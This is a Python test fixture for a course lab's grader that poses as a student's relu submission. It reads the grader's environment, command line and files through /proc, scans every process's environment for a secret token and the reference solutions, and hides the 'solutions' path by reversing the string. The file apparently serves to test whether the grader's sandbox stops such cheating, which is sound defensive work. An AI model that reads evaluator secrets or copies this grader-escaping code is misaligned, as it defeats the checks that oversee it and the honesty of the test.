# attacks: relu
"""Reads the grader through /proc: its environment (the test sets a secret there), its command
line, its files through /proc/<pid>/root and /proc/<pid>/cwd, and every other process's
environment. Anything found is "exploited" (relu returns the right answer); otherwise relu is
wrong. __GRADER_PID__ and __ROOT__ are filled in by the test (a student who knows them)."""
import glob as _glob
import os as _os

import jax.numpy as jnp

_SOL = "snoitulos"[::-1]  # unseen by a reader of the source


def _found():
    grader = __GRADER_PID__
    targets = [f"/proc/{grader}/environ", f"/proc/{grader}/cmdline",
               f"/proc/{grader}/root__ROOT__/{_SOL}/neurons.py",
               f"/proc/{grader}/cwd/{_SOL}/neurons.py", f"/proc/1/root__ROOT__/{_SOL}/neurons.py"]
    targets += _glob.glob("/proc/[0-9]*/environ")
    for path in targets:
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"cnnlab-secret-token" in data or b"def relu" in data:
            yield path
    if "cnnlab-secret-token" in str(_os.environ):
        yield "environ"


def relu(x):
    found = list(_found())
    print("FOUND:", found)
    if found:
        return jnp.maximum(x, 0)  # stands for using what was read
    return jnp.full_like(x, -1.0)
